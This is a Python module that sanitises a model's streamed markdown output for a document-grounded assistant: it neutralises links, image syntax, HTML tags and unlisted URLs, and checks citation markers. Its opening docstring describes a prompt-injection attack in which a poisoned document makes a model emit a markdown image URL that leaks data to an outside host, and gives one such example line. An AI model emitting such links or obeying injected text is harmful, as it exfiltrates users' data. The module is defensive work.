"""Keeps a model's text from reaching out of the page, and its citation markers within what it was given.

A poisoned document can make a model write `![](https://host/?data)`, which a renderer fetches unasked
(the EchoLeak class, CVE-2025-32711). Here every construct that could load or link anything is broken by one
character, whatever else surrounds it, so no markdown parser sees it: `](`, `]:` and `<tag`. Bare addresses
go unless the documents hold them verbatim. The work is done on the stream itself: what was shown is what stays.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from chains.citations import LONGEST_MARKER, MARKER, expand_marker

ABSTENTION_TOKEN = "NOT_IN_DOCUMENTS"  # noqa: S105 - a word of the prompt, no secret
NOT_FOUND = "Not in your documents"
UNKNOWN_SOURCE = "[?]"
LINK_REMOVED = "(link removed)"

# What markdown renderers link without being asked (GFM's autolink extension).
_ADDRESS = r"(?:https?://|ftp://|www\.)[^\s<>\[\]`]+"
_RISKY = re.compile(
    rf"(?P<marker>{MARKER})|(?P<close>\])(?=[(:])|(?P<tag><)(?=[A-Za-z/!?])|(?P<url>{_ADDRESS})"
    rf"|(?P<token>{ABSTENTION_TOKEN})",
    re.I,
)
_STARTS = ("https://", "http://", "ftp://", "www.", ABSTENTION_TOKEN)
_BEGINNINGS = "|".join(
    sorted({re.escape(word[:n]) for word in _STARTS for n in range(1, len(word) + 1)}, key=len, reverse=True)
)
# What may still become something else once more text arrives; a `<` before it is judged by what it becomes.
_UNDECIDED = re.compile(
    rf"(?:<?(?:[\[【][^\]】\n]{{0,{LONGEST_MARKER}}}[\]】]?|\]|{_ADDRESS}|{_BEGINNINGS})|<)\Z", re.I
)
_SENTENCE_END = ".,;:!?)}'\"*_"


def neutralise(text: str, *, sources: int | None, allowed_text: str = "") -> str:
    """The text with markers within 1..sources, and nothing that loads or links.

    Markers become `[1][2]`; a number outside the range becomes `[?]`. With `sources=None` brackets are
    plain text. Addresses that `allowed_text` holds verbatim stay.
    """
    stream = SafeStream(sources=sources, allowed_text=allowed_text)
    return stream.feed(text) + stream.close()


def _marker(match: re.Match[str], sources: int | None, in_code: bool) -> str:
    if sources is None or in_code:
        return match[0]
    if sources == 0:
        return ""  # nothing was given that could be cited
    numbers = expand_marker(match["marker"])
    known = [n for n in numbers if 1 <= n <= sources]
    unknown = UNKNOWN_SOURCE if len(known) < len(numbers) else ""
    return "".join(f"[{n}]" for n in known) + unknown


@dataclass(slots=True)
class _Place:
    """Where in the markdown the text so far ends, as far as code is concerned."""

    line: str = ""  # since the last line break
    fenced: bool = False

    def after(self, text: str) -> _Place:
        *whole, rest = (self.line + text).split("\n")
        fences = sum(line.lstrip().startswith("```") for line in whole)
        return _Place(line=rest, fenced=self.fenced != bool(fences % 2))

    @property
    def in_code(self) -> bool:
        """Whether a fence or an odd backtick stands open."""
        return self.fenced or self.line.replace("```", "").count("`") % 2 == 1


def _address(found: str, allowed_text: str) -> str:
    bare = found.rstrip(_SENTENCE_END)
    tail = found[len(bare) :]
    allowed = re.search(re.escape(bare) + r"(?![^\s<>()\[\]\"',;.])", allowed_text) if bare else None
    return (bare if allowed else LINK_REMOVED) + tail


class SafeStream:
    """`neutralise` over text that arrives in pieces: the pieces given out add up to `neutralise(whole)`.

    Only the end of the text that may still change is held back and looked at again.
    """

    def __init__(self, *, sources: int | None, allowed_text: str = "") -> None:
        self._sources = sources
        self._allowed = allowed_text
        self._pending = ""
        self._place = _Place()
        self._given: list[str] = []

    @property
    def text(self) -> str:
        """What was given out so far."""
        return "".join(self._given)

    @property
    def began(self) -> bool:
        """Whether anything has come in."""
        return bool(self._given or self._pending)

    def feed(self, delta: str) -> str:
        """Takes the next piece; returns what is safe to show now, possibly nothing."""
        self._pending += delta
        undecided = _UNDECIDED.search(self._pending)
        return self._give(undecided.start() if undecided else len(self._pending))

    def close(self) -> str:
        """The rest, once nothing more will come."""
        return self._give(len(self._pending))

    def _give(self, length: int) -> str:
        settled, self._pending = self._pending[:length], self._pending[length:]
        safe = _RISKY.sub(self._replacement, settled)
        self._place = self._place.after(settled)
        if safe:
            self._given.append(safe)
        return safe

    def _replacement(self, match: re.Match[str]) -> str:
        if match["marker"]:
            in_code = self._place.after(match.string[: match.start()]).in_code
            following = match.string[match.end() : match.end() + 1]
            return _marker(match, self._sources, in_code) + (" " if following in ("(", ":") else "")
        if match["token"]:
            return match[0] if self._sources is None else NOT_FOUND
        if match["url"]:
            return _address(match["url"], self._allowed)
        return match[0] + " "
